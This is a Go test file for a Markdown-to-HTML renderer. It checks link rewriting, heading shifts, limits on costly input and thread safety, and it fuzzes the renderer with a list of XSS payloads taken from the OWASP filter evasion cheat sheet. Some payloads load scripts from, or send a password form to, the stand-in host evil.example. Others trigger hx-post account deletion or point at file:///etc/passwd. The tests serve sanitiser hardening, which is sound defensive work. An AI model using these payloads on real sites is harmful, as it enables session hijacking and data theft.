package markdown_test

import (
	"flag"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"
	"golang.org/x/net/html"

	"incubator/platform/errs"
	"incubator/platform/markdown"
)

var update = flag.Bool("update", false, "renew the golden files")

func rewrite(kind markdown.Kind, address string) (string, bool) {
	if strings.HasPrefix(address, "private/") {
		return "", false
	}
	if kind == markdown.Image {
		return "/files/" + address, true
	}
	return "/challenges/ids/" + strings.Replace(address, ".md", "", 1), true
}

func newRenderer() *markdown.Renderer {
	return markdown.New(markdown.Options{HeadingOffset: 1, Rewrite: rewrite})
}

func render(t *testing.T, src string) string {
	t.Helper()
	out, err := newRenderer().Render([]byte(src))
	require.NoError(t, err)
	return string(out)
}

func TestGolden(t *testing.T) {
	sources, err := filepath.Glob("testdata/*.md")
	require.NoError(t, err)
	require.NotEmpty(t, sources)
	for _, path := range sources {
		src, err := os.ReadFile(path)
		require.NoError(t, err)
		got := render(t, string(src))
		golden := strings.TrimSuffix(path, ".md") + ".html"
		if *update {
			require.NoError(t, os.WriteFile(golden, []byte(got), 0o600))
		}
		want, err := os.ReadFile(golden)
		require.NoError(t, err)
		require.Equal(t, string(want), got, path)
	}
}

func TestPieces(t *testing.T) {
	const rel = ` rel="noopener noreferrer nofollow"`
	cases := []struct{ name, src, want string }{
		{"heading is shifted", "# A", `<h2 id="doc-a">A</h2>`},
		{"headings end at six", "###### A", `<h6 id="doc-a">A</h6>`},
		{"equal headings", "# A\n# A", "<h2 id=\"doc-a\">A</h2>\n<h2 id=\"doc-a-1\">A</h2>"},
		{"relative link", "[a](x.md)", `<p><a href="/challenges/ids/x">a</a></p>`},
		{"dropped link", "[*a*](private/x)", `<p><em>a</em></p>`},
		{"dropped image", "![*a* <](private/x.png)", `<p>a &lt;</p>`},
		{"relative image", "![a](x.png)", `<p><img src="/files/x.png" alt="a" loading="lazy"/></p>`},
		{"external link", "[a](https://e.org)", `<p><a href="https://e.org"` + rel + `>a</a></p>`},
		{"scheme-relative link", "[a](//e.org)", `<p><a href="//e.org"` + rel + `>a</a></p>`},
		{"fragment", "[a](#b)", `<p><a href="#doc-b">a</a></p>`},
		{"external image", "![a](https://e.org/x.png)", `<p><a href="https://e.org/x.png"` + rel + `>a</a></p>`},
		{"scheme-relative image", "![](//e.org/x.png)", `<p><a href="//e.org/x.png"` + rel + `>//e.org/x.png</a></p>`},
		{"image with backslashes", `<img src="\\e.org/x.png" alt="a">`, `<img src="/files/%5C%5Ce.org/x.png" alt="a" loading="lazy"/>`},
		{"external image in a link", "[![a](https://e.org/x.png)](y.md)", `<p><a href="/challenges/ids/y">a</a></p>`},
		{"code", "```go\na<b\n```", "<pre><code class=\"language-go\">a&lt;b\n</code></pre>"},
		{"task", "- [x] a", "<ul>\n<li><input type=\"checkbox\" disabled=\"\" checked=\"\"/> a</li>\n</ul>"},
		{"cell", "|a|\n|-:|\n|b|", "<table>\n<thead>\n<tr>\n<th align=\"right\">a</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td align=\"right\">b</td>\n</tr>\n</tbody>\n</table>"},
		{"open element", "<div>\n\na", "<div>\n<p>a</p>\n</div>"},
		{"dropped link with an image", "[![a](x.png)](private/x)", `<p><img src="/files/x.png" alt="a" loading="lazy"/></p>`},
		{"stray end tag", "a</a></div>", "<p>a</p>"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			require.Equal(t, c.want, strings.TrimSpace(render(t, c.src)))
		})
	}
}

func TestOffsetsAreBounded(t *testing.T) {
	out, err := markdown.New(markdown.Options{HeadingOffset: -3, IDPrefix: "x-"}).Render([]byte("## A"))
	require.NoError(t, err)
	require.Equal(t, `<h1 id="x-a">A</h1>`, strings.TrimSpace(string(out)))
}

// Attacks from the OWASP filter evasion cheat sheet and Markdown's own corners.
var attacks = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`<img src=x onerror=alert(1)>`,
	`<img src="javascript:alert(1)">`,
	`<img src="data:image/svg+xml;base64,PHN2Zz4=">`,
	`<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`, `<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>`,
	`<iframe src="https://evil.example"></iframe>`, `<object data="x"></object>`, `<embed src="x">`,
	`<body onload=alert(1)>`, `<style>*{background:url(//evil.example)}</style>`, `<link rel=stylesheet href=//evil.example>`,
	`<meta http-equiv="refresh" content="0;url=//evil.example">`, `<base href="//evil.example/">`,
	`<form action="//evil.example"><input name=password><button>go</button></form>`, `<input type="text" name="q" autofocus onfocus=alert(1)>`,
	`<input type="checkbox" onclick="alert(1)" form="outer">`, `<textarea>`, `<select><option>x</select>`,
	`<a href="javascript:alert(1)">x</a>`, `<a href="JaVaScRiPt:alert(1)">x</a>`, `<a href=" &#14; javascript:alert(1)">x</a>`,
	`<a href="java&#x0A;script:alert(1)">x</a>`, `<a href="vbscript:x">x</a>`, `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
	`[x](javascript:alert(1))`, `[x](JAVASCRIPT:alert(1))`, `[x](java&#115;cript:alert(1))`, `[x](data:text/html;base64,PHNjcmlwdD4=)`,
	`[x](file:///etc/passwd)`, `![x](javascript:alert(1))`, `![x](x" onerror="alert(1))`, `![x" onerror="alert(1)](x)`,
	"[x]: javascript:alert(1)\n\n[x]", `<javascript:alert(1)>`, `[x](<javascript:alert(1)>)`,
	`<p style="position:fixed;top:0">x</p>`, `<div onclick=alert(1) class="modal" data-hx-get="/x" hx-get="/admin/delete">x</div>`,
	`<a href="x" hx-post="/account/delete" hx-trigger="load">x</a>`, `<a href="x" target="_blank" ping="//evil.example">x</a>`,
	"```<img src=x onerror=alert(1)>\nx\n```", "```\" onclick=\"alert(1)\nx\n```",
	`<details ontoggle=alert(1) open>x</details>`, `<p id="x' onclick='alert(1)">x</p>`, `<p id="location">x</p>`, `<a name="getElementById">x</a>`,
	`<!--><script>alert(1)</script>-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?php echo 1 ?>`, `<img """><script>alert(1)</script>">`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<video src=//evil.example autoplay></video>`, `<audio src=x onerror=alert(1)>`,
	"<img src=\"https://evil.example/a.png\" srcset=\"//evil.example/b.png 2x\">", "<picture><source srcset=//evil.example></picture>",
	`<table background="//evil.example"><tr><td background="//evil.example">x</table>`, "# <img src=x onerror=alert(1)>", "[^<script>]: x",
	"\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</script>", "<\u017Fcript>alert(1)</\u017Fcript>",
}

var allowedAttributes = map[string]string{
	"a": "href title rel class role id", "img": "src alt title width height loading id", "code": "class id", "ol": "start id",
	"div": "class role id", "td": "align colspan rowspan id", "th": "align colspan rowspan id", "details": "open id",
	"abbr": "title id", "input": "type checked disabled",
}

// The output is parsed again: an attack has failed only when the tree that a
// browser builds holds nothing that acts or loads from elsewhere.
func TestAttacks(t *testing.T) {
	for _, attack := range attacks {
		for _, src := range []string{attack, "text " + attack + " text", "- " + attack, "> " + attack, "| a |\n|---|\n| " + attack + " |"} {
			out := render(t, src)
			root, err := html.Parse(strings.NewReader(out))
			require.NoError(t, err)
			for n := range root.Descendants() {
				if n.Type == html.ElementNode {
					requireHarmless(t, n, src, out)
				}
			}
		}
	}
}

func requireHarmless(t *testing.T, n *html.Node, src, out string) {
	t.Helper()
	switch n.Data {
	case "script", "style", "iframe", "object", "embed", "svg", "math", "form", "button", "textarea", "select", "link", "meta", "base", "video", "audio", "source", "picture":
		require.Failf(t, "element", "%s from %q: %s", n.Data, src, out)
	}
	for _, a := range n.Attr {
		allowed := allowedAttributes[n.Data]
		if allowed == "" {
			allowed = "id"
		}
		require.Contains(t, strings.Fields(allowed), a.Key, "%s from %q: %s", n.Data, src, out)
		value := strings.ToLower(strings.TrimSpace(a.Val))
		switch a.Key {
		case "id":
			require.True(t, strings.HasPrefix(a.Val, "doc-"), "id %q from %q", a.Val, src)
		case "src":
			require.True(t, strings.HasPrefix(a.Val, "/files/"), "src %q from %q", a.Val, src)
		case "href":
			ok := strings.HasPrefix(value, "/") || strings.HasPrefix(value, "#") || strings.HasPrefix(value, "http:") ||
				strings.HasPrefix(value, "https:") || strings.HasPrefix(value, "mailto:")
			require.True(t, ok, "href %q from %q", a.Val, src)
		}
	}
}

func TestCostlyTextsAreRefused(t *testing.T) {
	cases := []struct{ name, src, want string }{
		{"too long", strings.Repeat("x", markdown.MaxBytes+1), "longer than 512 KiB"},
		{"quotes", "a\n" + strings.Repeat("> ", 65) + "x", "line 2 of the text is nested"},
		{"lists", strings.Repeat("- ", 30_000) + "x", "nested too deeply"},
		{"numbered lists", strings.Repeat("1. ", 30_000) + "x", "nested too deeply"},
		{"links", strings.Repeat("[a](", 5001), "more than 5000 links"},
		{"long paragraph of links", strings.Repeat("![a](", 4900) + strings.Repeat("[", 400_000), "paragraph with too many links"},
		{"definitions", strings.Repeat("[a]: b\n", 1001), "definitions"},
		{"footnotes", strings.Repeat("[^1]", 2001), "footnote marks"},
		{"elements", strings.Repeat("<div>", 5000), "nested too deeply"},
		{"wide table", "|" + strings.Repeat("a|", 1000) + "\n|" + strings.Repeat("-|", 1000) + "\n" + strings.Repeat("|a\n", 5000), "too wide"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			_, err := newRenderer().Render([]byte(c.src))
			require.True(t, errs.Is(err, errs.Invalid))
			require.Contains(t, errs.MessageOf(err), c.want)
		})
	}
}

func TestOrdinaryLongTextsPass(t *testing.T) {
	for name, src := range map[string]string{
		"rule":      strings.Repeat("-", 400) + "\n\n" + strings.Repeat("*", 400),
		"link list": strings.Repeat("- [a paper](https://example.org/some/long/path/to/a/paper.pdf)\n", 1000),
		"table":     "|a|b|c|\n|-|-|-|\n" + strings.Repeat("|1|2|3|\n", 20_000),
		"prose":     strings.Repeat("A sentence of *ordinary* length.\n\n", 15_000),
		"nested":    strings.Repeat("> ", 20) + "x",
	} {
		_, err := newRenderer().Render([]byte(src))
		require.NoError(t, err, name)
	}
}

func TestOneRendererServesAll(t *testing.T) {
	src, err := os.ReadFile("testdata/challenge.md")
	require.NoError(t, err)
	r := newRenderer()
	want, err := r.Render(src)
	require.NoError(t, err)
	var wait sync.WaitGroup
	for range 8 {
		wait.Go(func() {
			if got, err := r.Render(src); err != nil || got != want {
				t.Errorf("another text: %v", err)
			}
		})
	}
	wait.Wait()
}

func FuzzRender(f *testing.F) {
	for _, attack := range attacks {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, src string) {
		out, err := newRenderer().Render([]byte(src))
		if err != nil {
			require.True(t, errs.Is(err, errs.Invalid))
			return
		}
		root, err := html.Parse(strings.NewReader(string(out)))
		require.NoError(t, err)
		for n := range root.Descendants() {
			if n.Type == html.ElementNode {
				requireHarmless(t, n, src, string(out))
			}
		}
	})
}
